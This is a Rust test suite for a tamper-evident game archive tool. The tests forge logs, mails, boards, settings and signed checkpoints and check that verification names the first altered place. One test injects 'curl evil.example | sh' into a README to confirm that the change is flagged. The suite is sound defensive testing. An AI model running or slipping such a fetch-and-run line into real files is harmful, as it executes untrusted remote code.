//! A finished game in the hands of somebody who knows the format: whatever he changes, `custodian verify` names the first place and why.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use custodian::archive::{Chain, Digest, Entry, Keyring, Known, Line, Signer, high_water};
use custodian::store::Folder;

use crate::program::House;

/// A letter laid by hand.
fn letter(number: usize, from: &str, body: &str) -> Vec<u8> {
    format!("From: {from}\nTo: custodian@localhost\nMessage-ID: <{number}.{from}>\nSubject: hello\n\n{body}\n").into_bytes()
}

/// Ann and Bob have played two turns of a game, with a rule and a roll of the dice.
fn played(game: &str) -> House {
    let house = House::new();
    let new = format!("NEW {game}\nPLAYER Ann <ann@x.org>\nPLAYER Bob <bob@x.org>\nUNDO 0");
    let letters = [
        ("master@localhost", new.as_str()),
        ("ann@x.org", "JOIN"),
        ("bob@x.org", "JOIN"),
        ("ann@x.org", "1: e2-e4"),
        (
            "bob@x.org",
            "RULE \"Coins\"\nWhen a knight captures a piece, flip a coin: on heads the captured piece changes sides, on tails nothing happens.\nEND",
        ),
        ("ann@x.org", "1: Ng1-f3"),
        ("bob@x.org", "1: e7-e5"),
        ("ann@x.org", "1: Nf3xe5"),
    ];
    for (number, (from, body)) in letters.into_iter().enumerate() {
        house.deliver(&letter(number, from, body));
        house.once();
    }
    house
}

/// The folder of the game `zaphod` in hands that may change it.
struct Forger {
    house: House,
    before: Vec<Line>,
}

impl Forger {
    fn new() -> Forger {
        let house = played("Zaphod");
        let before = house.lines("zaphod");
        assert!(before.len() > 15 && house.path("archive/zaphod/checkpoints/000001.sig").exists());
        Forger { house, before }
    }

    fn copy(&self) -> PathBuf {
        self.house.path("forged/zaphod")
    }

    /// Lays a fresh copy of the game, lets `tampering` at it and gives what `verify` says.
    fn verified(&self, options: &[&str], tampering: impl FnOnce(&Path)) -> (i32, String) {
        let whole = self.house.path("archive/zaphod");
        // It may not be there yet.
        let _ = fs::remove_dir_all(self.copy());
        assert!(Command::new("cp").arg("-a").arg(&whole).arg(self.parent()).status().unwrap().success());
        tampering(&self.copy());
        let output = self.house.command(&[&["verify", "forged/zaphod"], options].concat()).output().unwrap();
        let said = [output.stdout, output.stderr].concat();
        (output.status.code().unwrap(), String::from_utf8(said).unwrap())
    }

    fn parent(&self) -> PathBuf {
        let parent = self.house.path("forged");
        fs::create_dir_all(&parent).unwrap();
        parent
    }

    fn finds(&self, code: i32, says: &[&str], tampering: impl FnOnce(&Path)) {
        let (found, said) = self.verified(&[], tampering);
        assert_eq!(found, code, "{said}");
        for words in says {
            assert!(said.contains(words), "{words:?} is not in {said}");
        }
    }
}

fn log(game: &Path) -> PathBuf {
    game.join("log/000001.jsonl")
}

/// Changes the log's lines as text.
fn lines(game: &Path, change: impl FnOnce(&mut Vec<String>)) {
    let mut all: Vec<String> = fs::read_to_string(log(game)).unwrap().lines().map(str::to_owned).collect();
    change(&mut all);
    fs::write(log(game), all.iter().map(|line| format!("{line}\n")).collect::<String>()).unwrap();
}

/// Writes the whole history anew: digests, links and mark are those that such a game would have.
fn rewrite(game: &Path, change: impl FnOnce(&mut Vec<Entry>)) {
    let folder = Folder::open(game).unwrap();
    let mut entries: Vec<Entry> = folder.lines().unwrap().map(|line| line.unwrap().entry).collect();
    change(&mut entries);
    let mut chain = Chain::founded_on(&folder.settings().unwrap());
    let mut text = String::new();
    for entry in entries {
        let line = chain.write(entry).unwrap();
        chain.read(line.as_bytes()).unwrap();
        text.push_str(&line);
        text.push('\n');
    }
    fs::write(log(game), text).unwrap();
    fs::write(game.join("high-water"), high_water::file(chain.head())).unwrap();
}

fn without_checkpoints(game: &Path) {
    fs::remove_dir_all(game.join("checkpoints")).unwrap();
}

#[test]
fn every_tampering_is_found_and_its_first_place_named() {
    let forger = Forger::new();
    let count = forger.before.len();
    let newest = forger.before.last().unwrap().hash.to_string();
    let (code, said) = forger.verified(&["--deep"], |_| {});
    assert!(code == 0 && said.ends_with(&format!("OK zaphod {count} {newest}\n")), "{said}");
    assert!(said.contains("checkpoints hold, signed by SHA256:"), "{said}");

    let at = |line: usize| format!("BROKEN zaphod log/000001.jsonl line {line}: ");
    forger.finds(1, &[&at(4), "its bytes have the digest"], |game| {
        lines(game, |all| all[3] = all[3].replacen("\"at\":\"2", "\"at\":\"1", 1))
    });
    forger.finds(1, &[&at(5), "its number is 6, and 5 comes next"], |game| lines(game, |all| all.swap(4, 5)));
    forger.finds(1, &[&at(7), "its number is 8, and 7 comes next"], |game| lines(game, |all| drop(all.remove(6))));
    forger.finds(1, &[&at(8), "its number is 7, and 8 comes next"], |game| lines(game, |all| all.insert(7, all[6].clone())));
    forger.finds(1, &["the log ends with line", "had been acknowledged"], |game| lines(game, |all| drop(all.pop())));
    forger.finds(1, &["BROKEN zaphod game.toml: it has the digest"], |game| {
        let settings = fs::read_to_string(game.join("game.toml")).unwrap();
        fs::write(game.join("game.toml"), settings.replacen("ann@x.org", "eve@x.org", 1)).unwrap();
    });
    for folder in ["mail/in", "mail/out", "boards"] {
        forger.finds(1, &["has been altered", "BROKEN zaphod the chain holds", folder], |game| {
            let file = fs::read_dir(game.join(folder)).unwrap().next().unwrap().unwrap().path();
            fs::write(file, "something else").unwrap();
        });
    }
    forger.finds(3, &["is not there", "WITHHELD zaphod "], |game| fs::remove_dir_all(game.join("mail/in")).unwrap());
    forger.finds(0, &["no line: evidence/extra.json belongs to none", "OK zaphod "], |game| {
        fs::write(game.join("evidence/extra.json"), "{}").unwrap()
    });
}

#[test]
fn a_copy_may_lie_in_a_folder_of_any_name() {
    let forger = Forger::new();
    forger.verified(&[], |_| {});
    fs::rename(forger.copy(), forger.house.path("forged/a backup (1)")).unwrap();
    let verified = forger.house.run(&["verify", "forged/a backup (1)", "--deep"]);
    assert!(verified.lines().last().unwrap().starts_with("OK zaphod "), "{verified}");
    for command in [&["dice", "verify"][..], &["report"], &["export"]] {
        forger.house.run(&[command, &["forged/a backup (1)"]].concat());
    }
}

#[test]
fn checkpoints_that_are_taken_away_are_missed() {
    let forger = Forger::new();
    let key = forger.house.run(&["keys"]);
    fs::write(forger.house.path("noted.txt"), &key).unwrap();
    let newest = |game: &Path| {
        let mut all: Vec<_> = fs::read_dir(game.join("checkpoints")).unwrap().map(|entry| entry.unwrap().path()).collect();
        all.retain(|path| path.file_stem().unwrap().to_str().unwrap().parse::<u64>().is_ok());
        all.sort();
        all
    };
    let (code, said) = forger.verified(&["--signers", "noted.txt"], |_| {});
    assert!(code == 0 && !said.contains("its checkpoint is not there"), "{said}");
    for gone in ["sig", "txt"] {
        let mut line = 0;
        let take = |game: &Path, line: &mut u64| {
            let last = newest(game).pop().unwrap();
            *line = last.file_stem().unwrap().to_str().unwrap().parse().unwrap();
            fs::remove_file(last.with_extension(gone)).unwrap();
        };
        let (code, said) = forger.verified(&[], |game| take(game, &mut line));
        assert!(code == 0 && said.contains(&format!("line {line}: a turn ended there, and its checkpoint is not there")), "{said}");
        let (code, said) = forger.verified(&["--signers", "noted.txt"], |game| take(game, &mut line));
        assert!(code == 1 && said.contains(&format!("a turn ended with line {line}")), "{said}");
    }
    // The house lays them down again.
    let game = forger.house.path("archive/zaphod");
    let last = newest(&game).pop().unwrap();
    fs::remove_file(&last).unwrap();
    forger.house.once();
    assert!(last.exists());
    // A file without keys is no trust in anything.
    for noted in ["", "# key 1: SHA256:x\n", "junk\n"] {
        fs::write(forger.house.path("noted.txt"), noted).unwrap();
        let (code, said) = forger.verified(&["--signers", "noted.txt"], |_| {});
        assert!(code == 1 && said.contains("holds no key"), "{said}");
    }
}

#[test]
fn what_a_line_says_of_its_letter_and_its_mails_is_compared_with_them() {
    let forger = Forger::new();
    let forged = |change: &dyn Fn(&mut Vec<Entry>)| {
        forger.verified(&["--deep"], |game| {
            rewrite(game, |all| change(all));
            without_checkpoints(game);
        })
    };
    let changed = |all: &mut Vec<Entry>, from: &str, to: &str| {
        let entry = all.iter_mut().rev().find(|entry| entry.events.iter().any(|event| event.as_str().contains(from))).unwrap();
        for event in &mut entry.events {
            let text = event.as_str().replace(from, to);
            *event = serde_json::from_str(&text).unwrap();
        }
    };
    for (from, to) in [("bob@x.org", "ann@x.org"), ("\"subject\":\"", "\"subject\":\"Re: ")] {
        let (code, said) = forged(&|all| changed(all, from, to));
        assert!(code == 2 && said.contains("what it says of its letter"), "{said}");
    }
    let (code, said) = forged(&|all| all.iter_mut().rev().find_map(|entry| entry.out.first_mut()).unwrap().to = "eve@x.org".to_owned());
    assert!(code == 2 && said.contains("is not to eve@x.org"), "{said}");
    let (code, said) = forged(&|all| {
        let letters: Vec<usize> = (0..all.len()).filter(|&at| all[at].cause.letter_digest().is_some()).collect();
        let [.., earlier, later] = letters[..] else { panic!("there are letters") };
        all[later].cause = all[earlier].cause.clone();
    });
    assert!(code != 0 && said.contains("has caused an earlier line"), "{said}");
}

#[test]
fn no_players_letter_rules_as_the_masters() {
    let forger = Forger::new();
    // The master takes a turn back, in the house that is copied from now on.
    forger.house.deliver(&letter(90, "master@localhost", "GAME Zaphod\nROLLBACK 1 Bob"));
    forger.house.once();
    let lines = forger.house.lines("zaphod");
    let at = lines.iter().position(|line| line.entry.note.contains("The game goes back")).expect("it goes back");
    assert_eq!(forger.verified(&["--deep"], |_| {}).0, 0);
    let bobs = letter(91, "bob@x.org", "GAME Zaphod\nROLLBACK 1 Bob");
    let (code, said) = forger.verified(&["--deep"], |game| {
        let digest = Digest::of(&bobs);
        fs::write(game.join(format!("mail/in/{digest}.eml")), &bobs).unwrap();
        rewrite(game, |all| {
            all[at].cause = custodian::archive::Cause::letter(digest);
            let told = all[at].events[0].as_str().replace("master@localhost", "bob@x.org").replace("90.", "91.");
            all[at].events[0] = serde_json::from_str(&told).unwrap();
        });
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("deciding again gives 0 events"), "{said}");
}

#[test]
fn a_sentence_that_is_not_what_happened_is_pointed_out() {
    let forger = Forger::new();
    // The last one: behind others lie mails that vouch for it.
    let made = forger.before.iter().rev().find(|line| line.entry.cause.letter_digest().is_some()).unwrap().seq;
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| all[made as usize - 1].note = "By cheating, Bob did nothing of the sort.".to_owned());
        without_checkpoints(game);
    });
    assert!(code == 0 && said.contains(&format!("line {made}: its sentence is not what this program says of it")), "{said}");
    assert_eq!(said.matches("its sentence is not").count(), 1, "{said}");
}

/// Whoever keeps the house may write all digests anew; boards and mails still have to be what the events lead to.
#[test]
fn boards_and_mails_that_do_not_follow_from_the_events_are_found() {
    let forger = Forger::new();
    let turn = forger.before.iter().rev().find(|line| line.entry.out.iter().any(|mail| mail.kind == "turn")).unwrap().clone();
    let at = turn.seq as usize - 1;
    let to_bob = turn.entry.out.iter().position(|mail| mail.to == "bob@x.org" && mail.kind == "turn").unwrap();
    // A pawn changes sides in a drawing.
    forger.finds(2, &[&format!("DIFFERS zaphod line {}: the board {:04}.txt is not", turn.seq, turn.seq)], |game| {
        let file = format!("{:04}.txt", turn.seq);
        let board = fs::read_to_string(game.join("boards").join(&file)).unwrap().replacen('p', "P", 1);
        fs::write(game.join("boards").join(&file), &board).unwrap();
        rewrite(game, |all| {
            all[at].boards.insert(file, Digest::of(board.as_bytes()));
        });
        without_checkpoints(game);
    });
    // So does a board that is not named at all.
    forger.finds(2, &[&format!("DIFFERS zaphod line {}: the board {:04}", turn.seq, turn.seq)], |game| {
        rewrite(game, |all| all[at].boards.clear());
        without_checkpoints(game);
    });
    // Bob was told something else.
    let (code, said) = forger.verified(&["--deep"], |game| {
        let mail = forger.before[at].entry.out[to_bob].clone();
        let bytes = fs::read(game.join(format!("mail/out/{}.eml", mail.sha256))).unwrap();
        let other = String::from_utf8_lossy(&bytes).replacen("Nf3xe5", "Nf3-g5", 1).into_bytes();
        assert_ne!(bytes, other);
        fs::write(game.join(format!("mail/out/{}.eml", Digest::of(&other))), &other).unwrap();
        rewrite(game, |all| all[at].out[to_bob].sha256 = Digest::of(&other));
        without_checkpoints(game);
    });
    assert!(code == 0 && said.contains(&format!("line {}: the mail to bob@x.org says in other words", turn.seq)), "{said}");
    assert_eq!(said.matches("says in other words").count(), 1, "{said}");
    // He was told nothing.
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| drop(all[at].out.remove(to_bob)));
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("is mailed to bob@x.org, and it promises no such mail"), "{said}");
    // A letter and its answer are taken out, and what follows is numbered anew.
    forger.finds(2, &["DIFFERS zaphod line ", ": its mail to ", "by its Message-ID"], |game| {
        rewrite(game, |all| {
            let joined = (3..all.len()).find(|at| all[*at].cause.word() == "sent").unwrap();
            all.remove(joined);
        });
        without_checkpoints(game);
    });
    // Somebody else is said to have founded it.
    let (code, said) = forger.verified(&["--deep"], |game| {
        let settings = fs::read_to_string(game.join("game.toml")).unwrap().replacen("master@localhost", "eve@localhost", 1);
        fs::write(game.join("game.toml"), settings).unwrap();
        fs::remove_dir_all(game.join("mail/out")).unwrap();
        let folder = Folder::open(game).unwrap();
        let lines = forger.before.iter().map(|line| line.entry.clone());
        let mut chain = Chain::founded_on(&folder.settings().unwrap());
        let mut text = String::new();
        for entry in lines {
            let line = chain.write(entry).unwrap();
            chain.read(line.as_bytes()).unwrap();
            text.push_str(&format!("{line}\n"));
        }
        fs::write(log(game), text).unwrap();
        fs::write(game.join("high-water"), high_water::file(chain.head())).unwrap();
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("its letter asks for another game than game.toml tells"), "{said}");
}

#[test]
fn checkpoints_narrow_down_where_a_history_was_changed() {
    let forger = Forger::new();
    let mut signed: Vec<usize> = fs::read_dir(forger.house.path("archive/zaphod/checkpoints"))
        .unwrap()
        .filter_map(|entry| entry.unwrap().file_name().to_str()?.strip_suffix(".sig")?.parse().ok())
        .collect();
    signed.sort_unstable();
    let [_, stands, broken, ..] = signed[..] else { panic!("{signed:?}") };
    let renamed = |line: usize| move |all: &mut Vec<Entry>| all[line - 1].note = "Nothing at all.".to_owned();
    let within =
        format!("lines {} to {broken}: the first change is among these; the checkpoint of line {broken} does not hold", stands + 1);
    for changed in [stands + 1, broken] {
        let and = format!(", and that of line {stands} does\n");
        forger.finds(1, &[&within, &and, "BROKEN zaphod checkpoints/"], |game| rewrite(game, renamed(changed)));
    }
    // Where the mark of the old history is left, the place is the same.
    forger.finds(1, &[&within, "had been acknowledged", "BROKEN zaphod log/000001.jsonl"], |game| {
        let mark = fs::read(game.join("high-water")).unwrap();
        rewrite(game, |all| {
            all[broken - 1].note = "Nothing at all.".to_owned();
            all.pop();
        });
        fs::write(game.join("high-water"), mark).unwrap();
    });
    forger
        .finds(1, &["lines 1 to 1: the first change is among these", "there is no checkpoint before it"], |game| rewrite(game, renamed(1)));
}

#[test]
fn what_a_copying_program_makes_of_a_record_is_called_by_its_name() {
    let forger = Forger::new();
    let windows = |path: PathBuf| fs::write(&path, fs::read_to_string(&path).unwrap().replace('\n', "\r\n")).unwrap();
    let ends = "line 1: it ends as lines of Windows do, with CR LF: a program that copied it has changed all line ends";
    forger.finds(1, &["BROKEN zaphod log/000001.jsonl", ends], |game| windows(log(game)));
    forger.finds(1, &["BROKEN zaphod game.toml", "not even its line ends"], |game| {
        windows(game.join("game.toml"));
        windows(game.join("README.txt"));
    });
    forger.finds(1, &["has been altered", "BROKEN zaphod the chain holds"], |game| {
        let letter = fs::read_dir(game.join("mail/in")).unwrap().next().unwrap().unwrap().path();
        fs::remove_file(&letter).unwrap();
        fs::create_dir(&letter).unwrap();
    });
    forger.finds(0, &["README.txt: not the text of this program", "OK zaphod "], |game| {
        let readme = fs::read_to_string(game.join("README.txt")).unwrap();
        fs::write(game.join("README.txt"), readme.replacen("sha256sum", "sha256sum; curl evil.example | sh", 1)).unwrap();
    });
}

#[test]
fn the_lines_of_another_game_do_not_fit() {
    let forger = Forger::new();
    let other = played("Marvin");
    let foreign = fs::read_to_string(log(&other.path("archive/marvin"))).unwrap();
    let foreign: Vec<&str> = foreign.lines().collect();
    forger.finds(1, &["log/000001.jsonl line 9: it continues "], |game| {
        lines(game, |all| {
            all.truncate(8);
            all.extend(foreign[8..].iter().map(|line| (*line).to_owned()));
        });
    });
    forger.finds(1, &["log/000001.jsonl line 6: it continues "], |game| lines(game, |all| all[5] = foreign[5].to_owned()));
}

#[test]
fn a_history_written_anew_is_betrayed_by_the_signed_checkpoints() {
    let forger = Forger::new();
    // The line in which Bob makes his rule, so that what follows still replays.
    let made = forger.before.iter().find(|line| line.entry.note.contains("makes rule")).unwrap().seq as usize - 1;
    let renamed = |all: &mut Vec<Entry>| all[made].note = "Bob did nothing of the sort.".to_owned();
    forger.finds(1, &["BROKEN zaphod checkpoints/", "it was signed that line ", " has the head "], |game| rewrite(game, renamed));
    // Without them the mails that lie beside it tell; all of them would have to be written anew.
    let (code, said) = forger.verified(&[], |game| {
        rewrite(game, renamed);
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains(" was written behind line ") && said.contains("and the line before it has"), "{said}");
    // And those that the players have.
    let old = &forger.before[made];
    let footer = [old.seq.to_string(), old.hash.to_string()];
    let (code, said) = forger.verified(&[&footer[0], &footer[1]], |game| {
        rewrite(game, renamed);
        without_checkpoints(game);
    });
    assert!(code == 1 && said.contains(&format!("DOES NOT MATCH: line {} of zaphod has the head ", old.seq)), "{said}");
    let (code, said) = forger.verified(&[&footer[0], &footer[1][..16]], |_| {});
    assert!(code == 0 && said.contains("MATCHES: line "), "{said}");
    // Signed by somebody else's key it holds together, but not for those who noted the house's keys.
    fs::write(forger.house.path("noted.txt"), forger.house.run(&["keys"])).unwrap();
    let forged = |game: &Path| {
        rewrite(game, renamed);
        without_checkpoints(game);
        let head = Folder::open(game).unwrap().survey(&mut |_| {}).unwrap().chain().head();
        let files = Keyring::of(Signer::from_seed(&[9; 32])).files("zaphod", head, &Known::default()).unwrap();
        fs::create_dir(game.join("checkpoints")).unwrap();
        files.iter().flatten().for_each(|blob| fs::write(game.join(blob.name().as_str()), blob.bytes()).unwrap());
        fs::remove_dir_all(game.join("mail/out")).unwrap();
    };
    assert_eq!(forger.verified(&[], forged).0, 3);
    let (code, said) = forger.verified(&["--signers", "noted.txt"], forged);
    assert!(code == 1 && said.contains("BROKEN zaphod checkpoints/") && said.contains("not among the allowed signers"), "{said}");
    assert_eq!(forger.verified(&["--signers", "noted.txt"], |_| {}).0, 0);
    let (code, said) = forger.verified(&["--signers", "noted.txt"], without_checkpoints);
    assert!(code == 1 && said.contains("none of the trusted keys has signed"), "{said}");
}

#[test]
fn a_history_written_anew_that_replays_otherwise_is_named_by_its_line() {
    let forger = Forger::new();
    let moved = forger.before.iter().find(|line| line.entry.note.contains("e2-e4")).unwrap().seq;
    // The state that the line claims no longer follows from its events.
    forger.finds(2, &[&format!("DIFFERS zaphod line {moved}: ")], |game| {
        rewrite(game, |all| all[moved as usize - 1].state = all[0].state);
        without_checkpoints(game);
    });
    // So does that of a line that only tells of mails sent.
    let sent = forger.before.iter().rev().find(|line| line.entry.cause.word() == "sent").unwrap().seq;
    forger.finds(2, &[&format!("DIFFERS zaphod line {sent}: ")], |game| {
        rewrite(game, |all| all[sent as usize - 1].state = all[0].state);
        without_checkpoints(game);
    });
    // Events, states and digests agree, but the letter asked for something else: only a deep look finds that.
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| {
            let index = moved as usize - 1;
            let (cause, joined) = (all[index].cause.clone(), all[index - 1].cause.clone());
            all[index].cause = if joined.letter_digest().is_some() { joined } else { all[1].cause.clone() };
            assert_ne!(all[index].cause, cause);
        });
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains(&format!("DIFFERS zaphod line {moved}: deciding again gives ")), "{said}");
    forger.finds(1, &["is dated ", "before the line that it follows"], |game| back_dated(game, 5));
}

/// Dates a line before the one that it follows, with digests that fit.
fn back_dated(game: &Path, index: usize) {
    let folder = Folder::open(game).unwrap();
    let mut chain = Chain::founded_on(&folder.settings().unwrap());
    let all: Vec<Line> = folder.lines().unwrap().map(Result::unwrap).collect();
    let mut text = String::new();
    for (number, line) in all.into_iter().enumerate() {
        let mut entry = line.entry;
        if number == index {
            entry.at -= chrono::TimeDelta::days(1);
            // A chain that knows no earlier line writes the date as it is given.
            let fresh = Line { seq: number as u64 + 1, prev: chain.head().hash, entry, hash: line.hash };
            text.push_str(&fresh.text().unwrap());
            text.push('\n');
            break;
        }
        let line = chain.write(entry).unwrap();
        chain.read(line.as_bytes()).unwrap();
        text.push_str(&line);
        text.push('\n');
    }
    fs::write(log(game), text).unwrap();
    without_checkpoints(game);
    fs::remove_file(game.join("high-water")).unwrap();
}

#[test]
fn a_checkpoint_beyond_the_end_betrays_lines_cut_off_and_nothing_is_added() {
    let forger = Forger::new();
    let cut = |game: &Path| {
        rewrite(game, |all| all.truncate(5));
        for folder in ["mail/in", "mail/out", "boards"] {
            fs::remove_dir_all(game.join(folder)).unwrap();
        }
    };
    forger.finds(1, &["BROKEN zaphod checkpoints/", "it was signed that there is a line ", "and the log ends with 5 "], cut);
    forger.verified(&[], cut);
    fs::remove_dir_all(forger.house.path("archive/zaphod")).unwrap();
    fs::rename(forger.copy(), forger.house.path("archive/zaphod")).unwrap();
    let output = forger.house.command(&["run", "--once"]).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("zaphod is in quarantine"), "{said}");
    assert_eq!(forger.house.lines("zaphod").len(), 5);
}

/// Runs ssh-keygen on a statement in `folder`; gives whether it accepts it, and what it says.
fn ssh_keygen(folder: &Path, signers: &Path, statement: &str) -> (bool, String) {
    let mut command = Command::new("ssh-keygen");
    command.args(["-Y", "verify", "-I", "custodian", "-n", "custodian-checkpoint", "-f"]).arg(signers);
    command.arg("-s").arg(folder.join(format!("{statement}.sig")));
    command.stdin(fs::File::open(folder.join(format!("{statement}.txt"))).unwrap());
    let output = command.output().expect("ssh-keygen is there: tests/run installs openssh-client");
    (output.status.success(), String::from_utf8([output.stdout, output.stderr].concat()).unwrap())
}

#[test]
fn openssh_accepts_the_checkpoints_and_the_signatures_in_mails() {
    let forger = Forger::new();
    let folder = forger.house.path("archive/zaphod/checkpoints");
    let signers = folder.join("allowed-signers.txt");
    let (good, said) = ssh_keygen(&folder, &signers, "000001");
    assert!(good && said.contains("Good \"custodian-checkpoint\" signature for custodian with ED25519 key SHA256:"), "{said}");
    let text = fs::read_to_string(folder.join("000001.txt")).unwrap();
    fs::write(folder.join("000001.txt"), text.replace("zaphod", "marvin")).unwrap();
    assert!(!ssh_keygen(&folder, &signers, "000001").0);

    // What VERIFY alone brings, cut out of the mail by hand.
    let asked = letter(90, "ann@x.org", "VERIFY");
    forger.house.deliver(&asked);
    forger.house.once();
    let (log, line) = forger.house.line_of(&asked).unwrap();
    let mail = forger.house.mails_of(&log, &line).remove(0).text.replace("\r\n", "\n");
    let block = |begin: &str, end: &str| {
        let start = mail.find(begin).unwrap_or_else(|| panic!("{begin} is not in {mail}"));
        let length = mail[start..].find(end).unwrap() + end.len();
        format!("{}\n", &mail[start..start + length])
    };
    let mailed = forger.house.path("mailed");
    fs::create_dir(&mailed).unwrap();
    let statement = block("custodian checkpoint 1\n", "\n\n");
    fs::write(mailed.join("s.txt"), statement.trim_end().to_owned() + "\n").unwrap();
    fs::write(mailed.join("s.sig"), block("-----BEGIN SSH SIGNATURE-----", "-----END SSH SIGNATURE-----")).unwrap();
    fs::write(mailed.join("signers"), block("custodian namespaces=", "\n").trim_end().to_owned() + "\n").unwrap();
    let (good, said) = ssh_keygen(&mailed, &mailed.join("signers"), "s");
    assert!(good, "{said}\n{mail}");
    assert!(statement.contains(&format!("line {}\n", line.seq - 1)), "{statement}");
}

#[test]
fn a_new_key_signs_by_the_word_of_the_old_one() {
    let forger = Forger::new();
    let house = &forger.house;
    let noted = house.run(&["keys"]);
    assert_eq!(noted.matches("ssh-ed25519").count(), 1, "{noted}");
    fs::write(house.path("noted.txt"), &noted).unwrap();
    let rotated = house.run(&["keys", "rotate"]);
    assert!(rotated.contains("# key 2: SHA256:") && rotated.contains("by the word of the key before it"), "{rotated}");
    house.deliver(&letter(91, "bob@x.org", "1: d7-d6"));
    house.once();
    let newest = house.lines("zaphod").iter().rev().find(|line| line.entry.note.contains("d7-d6")).unwrap().seq;
    let folder = house.path("archive/zaphod/checkpoints");
    let (good, said) = ssh_keygen(&folder, &folder.join("allowed-signers.txt"), &format!("{newest:06}"));
    assert!(good, "{said}");
    // Who noted only the first key is led to the second by its word.
    let said = house.run(&["verify", "zaphod", "--signers", "noted.txt"]);
    assert_eq!(said.matches("signed by SHA256:").count(), 2, "{said}");
    // And OpenSSH bears the word out.
    fs::write(folder.join("first.txt"), noted).unwrap();
    let mut command = Command::new("ssh-keygen");
    command.args(["-Y", "verify", "-I", "custodian", "-n", "custodian-key", "-f"]).arg(folder.join("first.txt"));
    command.arg("-s").arg(folder.join("key-2.sig")).stdin(fs::File::open(folder.join("key-2.txt")).unwrap());
    assert!(command.output().unwrap().status.success());
    fs::remove_file(folder.join("first.txt")).unwrap();
    fs::remove_file(folder.join("key-2.sig")).unwrap();
    let said = house.run(&["verify", "zaphod"]);
    assert!(said.contains("and none before it gave its word for it"), "{said}");
    let output = house.command(&["verify", "zaphod", "--signers", "noted.txt"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{output:?}");
}

#[test]
fn copies_carry_the_checkpoints_and_the_keys() {
    let house = played("Zaphod");
    house.run(&["export", "zaphod", "--public"]);
    let output = house.command(&["verify", "zaphod-public.tar", "--deep"]).output().unwrap();
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(output.status.code() == Some(3) && said.contains("checkpoints hold, signed by SHA256:"), "{said}");
}
